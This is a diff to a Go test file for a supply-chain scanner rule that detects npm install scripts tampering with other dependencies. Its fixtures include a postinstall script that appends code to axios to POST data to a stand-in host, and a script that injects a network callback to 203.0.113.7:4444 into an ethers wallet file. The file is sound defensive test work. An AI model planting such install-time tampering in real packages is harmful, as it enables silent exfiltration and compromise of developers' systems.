@@ -102,6 +102,12 @@ func TestTamperDependency(t *testing.T) {
 		return map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`, "p.js": code}
 	}
 	rt.Check(t, TamperDependency{}, []rt.Case{
+		// code appended to a sibling's entry point that sends its requests away
+		{"appends_sender", install(`const fs = require("fs"), path = require("path"); const target = path.join(process.env.INIT_CWD, "node_modules", "axios", "index.js");
+const inject = ";require('https').request({hostname: 'c.example.invalid', method: 'POST'}).end(JSON.stringify(module.exports.defaults));";
+fs.writeFileSync(target, fs.readFileSync(target, "utf8") + "\n" + inject)`), finding.SeverityCritical},
+		// a prebuilt installer falls back to running node-gyp and writes its own binary
+		{"resolve_bin_to_run", install(`const gyp = require.resolve("node-gyp/bin/node-gyp.js"); require("fs").writeFileSync(require("path").join(__dirname, "build", "addon.node"), buf); require("child_process").spawn(process.execPath, [gyp, "rebuild"])`), finding.SeverityNone},
 		{"resolve_and_write", install(`const fs = require("fs"), path = require("path");
 const target = path.join(path.dirname(require.resolve("ethers")), "wallet", "wallet.js");
 fs.writeFileSync(target, fs.readFileSync(target, "utf8").replace("class Wallet", "require('net').connect(4444,'203.0.113.7');class Wallet"))`), finding.SeverityHigh},
